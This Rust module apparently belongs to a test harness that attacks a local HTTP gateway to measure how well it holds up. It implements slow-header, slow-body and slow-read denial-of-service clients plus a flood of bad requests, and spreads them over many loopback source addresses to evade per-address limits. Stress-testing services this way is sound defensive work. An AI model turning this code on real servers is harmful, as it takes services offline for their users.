//! Clients that want to take a gateway down, each kind in its own way and all as many as one likes. They know HTTP
//! and are in no hurry to keep to it; what they can reach is what any client can.
//!
//! They come from several addresses of the loopback network, so that limits for one address alone do not stop them.

use anyhow::{Context, Result};
use clap::ValueEnum;
use nix::sys::resource::{getrlimit, setrlimit, Resource};
use socket2::SockRef;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::runtime::Runtime;
use tokio::sync::Semaphore;

/// Clients of one address: less than a gateway allows one by default.
const CLIENTS_PER_ADDRESS: usize = 250;
/// How often who is slow on purpose moves one byte.
const DRIP: Duration = Duration::from_secs(2);
/// After a connection that could not be opened, or was closed at once.
const PAUSE: Duration = Duration::from_millis(100);
/// So little a slow reader's kernel takes for it.
const RECEIVE_BYTES: usize = 4096;

/// Slow readers that wait for their pages at a time: they are to be slow, not many requests at once, which is another
/// matter.
const ASKING_MAX: usize = 4;

/// In which way a client is hostile.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    /// Headers that never end, a byte now and then.
    SlowHeaders,
    /// Bodies that never end, a byte now and then.
    SlowBodies,
    /// A page is asked for that does not fit into what is between both, and read a byte now and then.
    SlowReading,
    /// Requests that have to be refused, as fast as they are.
    Refusals,
}

impl Kind {
    /// All of them.
    pub const ALL: [Kind; 4] = [
        Kind::SlowHeaders,
        Kind::SlowBodies,
        Kind::SlowReading,
        Kind::Refusals,
    ];
}

/// What became of an attack so far.
#[derive(Debug, Default)]
pub struct Tally {
    open: AtomicU64,
    opened: AtomicU64,
    answered: AtomicU64,
}

impl Tally {
    /// Connections that are open now.
    #[must_use]
    pub fn open(&self) -> u64 {
        self.open.load(Ordering::Relaxed)
    }

    /// Connections that were opened.
    #[must_use]
    pub fn opened(&self) -> u64 {
        self.opened.load(Ordering::Relaxed)
    }

    /// Connections on which something was said back.
    #[must_use]
    pub fn answered(&self) -> u64 {
        self.answered.load(Ordering::Relaxed)
    }
}

/// Hostile clients at work, until this is dropped.
#[derive(Debug)]
pub struct Attack {
    tally: Arc<Tally>,
    /// A thread of its own: whoever measures others does not wait for it.
    runtime: Option<Runtime>,
}

impl Drop for Attack {
    fn drop(&mut self) {
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_background();
        }
    }
}

impl Attack {
    /// Begins with so many clients. Each opens a new connection when it has lost one. Slow readers ask for `page`.
    ///
    /// # Errors
    /// When this process may not open so many files, or start a thread.
    pub fn begin(kind: Kind, gateway: SocketAddr, clients: usize, page: &str) -> Result<Attack> {
        raise_the_limit_on_open_files(clients as u64)?;
        let tally = Arc::<Tally>::default();
        let asking = Arc::new(Semaphore::new(ASKING_MAX));
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()?;
        for number in 0..clients {
            let client = Client {
                kind,
                gateway,
                page: page.to_owned(),
                asking: Arc::clone(&asking),
                from: address(number / CLIENTS_PER_ADDRESS),
                tally: Arc::clone(&tally),
            };
            runtime.spawn(client.run());
        }
        Ok(Attack {
            tally,
            runtime: Some(runtime),
        })
    }

    /// What became of it so far.
    #[must_use]
    pub fn tally(&self) -> &Tally {
        &self.tally
    }
}

/// Files that a process has open beside its connections.
const OTHER_FILES: u64 = 256;

fn raise_the_limit_on_open_files(connections: u64) -> Result<()> {
    let (soft, hard) = getrlimit(Resource::RLIMIT_NOFILE)?;
    let needed = (connections + OTHER_FILES).max(soft);
    setrlimit(Resource::RLIMIT_NOFILE, needed, hard).with_context(|| {
        format!("{connections} connections need {needed} open files; see ulimit -Hn")
    })
}

/// The n-th address of the attackers.
fn address(number: usize) -> Ipv4Addr {
    let [high, low] = u16::try_from(number + 1).unwrap_or(u16::MAX).to_be_bytes();
    Ipv4Addr::new(127, 66, high, low)
}

struct Client {
    kind: Kind,
    gateway: SocketAddr,
    page: String,
    asking: Arc<Semaphore>,
    from: Ipv4Addr,
    tally: Arc<Tally>,
}

/// Counts a connection as long as it is open.
struct Opened<'a>(&'a Tally);

impl Drop for Opened<'_> {
    fn drop(&mut self) {
        self.0.open.fetch_sub(1, Ordering::Relaxed);
    }
}

impl Client {
    async fn run(self) {
        loop {
            let Ok(stream) = self.connect().await else {
                tokio::time::sleep(PAUSE).await;
                continue;
            };
            self.tally.opened.fetch_add(1, Ordering::Relaxed);
            self.tally.open.fetch_add(1, Ordering::Relaxed);
            let opened = Opened(&self.tally);
            // However it ends, the next one begins.
            let _ = self.attack(stream).await;
            drop(opened);
            if self.kind != Kind::Refusals {
                tokio::time::sleep(PAUSE).await;
            }
        }
    }

    async fn connect(&self) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        if self.kind == Kind::SlowReading {
            SockRef::from(&socket).set_recv_buffer_size(RECEIVE_BYTES)?;
        }
        socket.bind((self.from, 0).into())?;
        socket.connect(self.gateway).await
    }

    async fn attack(&self, mut stream: TcpStream) -> std::io::Result<()> {
        match self.kind {
            Kind::SlowHeaders => {
                stream
                    .write_all(b"GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ")
                    .await?;
                self.drip(stream).await
            }
            Kind::SlowBodies => {
                let head = b"POST /bid HTTP/1.1\r\nHost: shop\r\nContent-Length: 1000000\r\n\r\n";
                stream.write_all(head).await?;
                self.drip(stream).await
            }
            Kind::SlowReading => {
                let request = format!("GET {} HTTP/1.1\r\nHost: shop\r\n\r\n", self.page);
                let asking = self.asking.acquire().await;
                stream.write_all(request.as_bytes()).await?;
                let mut byte = [0];
                stream.read_exact(&mut byte).await?;
                drop(asking);
                self.said(&byte);
                sip(stream).await
            }
            Kind::Refusals => {
                stream.write_all(b"GET / HTTP/1.1\r\n\r\n").await?;
                let mut reply = Vec::new();
                stream.read_to_end(&mut reply).await?;
                self.said(&reply);
                Ok(())
            }
        }
    }

    fn said(&self, bytes: &[u8]) {
        if !bytes.is_empty() {
            self.tally.answered.fetch_add(1, Ordering::Relaxed);
        }
    }

    /// Sends a byte now and then until the gateway has had enough.
    async fn drip(&self, stream: TcpStream) -> std::io::Result<()> {
        let (mut from, mut to) = stream.into_split();
        let mut reply = Vec::new();
        tokio::select! {
            read = from.read_to_end(&mut reply) => {
                self.said(&reply);
                read.map(drop)
            }
            written = async {
                loop {
                    tokio::time::sleep(DRIP).await;
                    to.write_all(b"x").await?;
                }
            } => written,
        }
    }
}

/// Takes a byte now and then until the gateway has had enough.
async fn sip(mut stream: TcpStream) -> std::io::Result<()> {
    let mut byte = [0];
    loop {
        tokio::time::sleep(DRIP).await;
        stream.read_exact(&mut byte).await?;
    }
}
